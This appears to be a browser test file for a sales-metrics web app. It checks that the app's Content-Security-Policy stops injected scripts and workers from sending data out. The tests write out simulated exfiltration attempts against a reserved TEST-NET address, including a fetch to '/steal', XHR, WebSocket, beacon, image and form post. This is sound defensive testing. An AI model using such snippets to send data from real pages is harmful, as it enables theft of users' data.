// The privacy boundary as enforced: a script injected into the standalone page (or the
// single file) cannot send data out by fetch, XHR, WebSocket, beacon, image or form post,
// nor from a worker it starts, and has no WebRTC to send it by; the server's Content-Security-Policy header reaches the worker's
// script. window.open with data in the URL is not stoppable by a page (README: Privacy).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openBrowser, ROOT } from './harness.mjs';

const OUT = 'http://203.0.113.9'; // TEST-NET-3: nothing answers there anyway

async function tryToSendOut(page) {
  return page.evaluate(async (out) => {
    const results = {};
    const attempt = async (name, fn) => {
      try {
        await Promise.race([fn(), new Promise((ok, fail) => setTimeout(() => fail(new Error('timeout')), 3000))]);
        results[name] = 'sent';
      } catch {
        results[name] = 'refused';
      }
    };
    await attempt('fetch', () => fetch(`${out}/steal?d=1`));
    await attempt('xhr', () => new Promise((ok, fail) => {
      const x = new XMLHttpRequest();
      x.open('GET', `${out}/x`);
      x.onload = ok;
      x.onerror = fail;
      x.send();
    }));
    await attempt('websocket', () => new Promise((ok, fail) => {
      const w = new WebSocket(`${out.replace('http', 'ws')}/`);
      w.onopen = ok;
      w.onerror = fail;
    }));
    await attempt('image', () => new Promise((ok, fail) => {
      const i = new Image();
      i.onload = ok;
      i.onerror = fail;
      i.src = `${out}/i.png`;
    }));
    try {
      navigator.sendBeacon(`${out}/b`, 'data');
    } catch {
      // refused outright
    }
    // a form posted to another origin (form-action 'none'): the page stays where it is
    const form = Object.assign(document.createElement('form'), { method: 'post', action: `${out}/form` });
    form.append(Object.assign(document.createElement('input'), { name: 'd', value: 'data' }));
    document.body.append(form);
    form.submit();
    await new Promise((ok) => setTimeout(ok, 300));
    results.form = location.href.startsWith(out) ? 'sent' : 'refused';
    results.webrtc = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel'].every((n) => globalThis[n] === undefined)
      ? 'absent' : 'present';
    return { results, violations: window.__cspViolations };
  }, OUT);
}

const REFUSED = { fetch: 'refused', xhr: 'refused', websocket: 'refused', image: 'refused', form: 'refused', webrtc: 'absent' };

test('the standalone page: nothing leaves, and the worker script carries the policy', async () => {
  const b = await openBrowser();
  try {
    const { results, violations } = await tryToSendOut(b.page);
    assert.deepEqual(results, REFUSED);
    // the beacon was refused by the policy too, and no request left 127.0.0.1
    assert.ok(violations.some((v) => v.startsWith('connect-src') && v.includes('/b')), violations.join('\n'));
    assert.ok(violations.some((v) => v.startsWith('form-action')), violations.join('\n'));
    assert.deepEqual(b.foreign, []);
    // a worker's policy comes from the response that served its script
    for (const path of ['worker.js', 'index.html']) {
      const res = await fetch(`${b.url}${path}`);
      assert.match(res.headers.get('content-security-policy') ?? '', /connect-src 'self'.*worker-src 'self'.*form-action 'none'/, path);
    }
  } finally {
    await b.close();
  }
});

test('a worker started by an injected script cannot send data out either', async () => {
  const b = await openBrowser({ mounts: { '/test-only/': `${ROOT}tests/browser/fixtures/` } });
  try {
    const got = await b.page.evaluate(async () => {
      const run = (url, options) => new Promise((ok) => {
        try {
          const w = new Worker(url, options);
          w.onmessage = (e) => ok(e.data);
          w.onerror = () => ok('not started');
        } catch {
          ok('not started');
        }
      });
      return {
        // same origin: started, and its script's own policy header refuses every way out
        sameOrigin: await run('/test-only/leaky-worker.js', { type: 'module' }),
        // a worker made from text (a Blob) is refused outright: worker-src 'self'
        blob: await run(URL.createObjectURL(new Blob(["postMessage('started')"], { type: 'text/javascript' }))),
      };
    });
    // (workers have no WebRTC at all)
    assert.deepEqual(got.sameOrigin, { fetch: 'refused', xhr: 'refused', websocket: 'refused', webrtc: 'absent' });
    assert.equal(got.blob, 'not started');
    assert.deepEqual(b.foreign, []);
  } finally {
    await b.close();
  }
});

test('the single file: nothing leaves', async () => {
  const b = await openBrowser({ file: 'dist/sales-metrics-analyzer.html' });
  try {
    const { results } = await tryToSendOut(b.page);
    assert.deepEqual(results, REFUSED);
    assert.deepEqual(b.foreign, []);
  } finally {
    await b.close();
  }
});
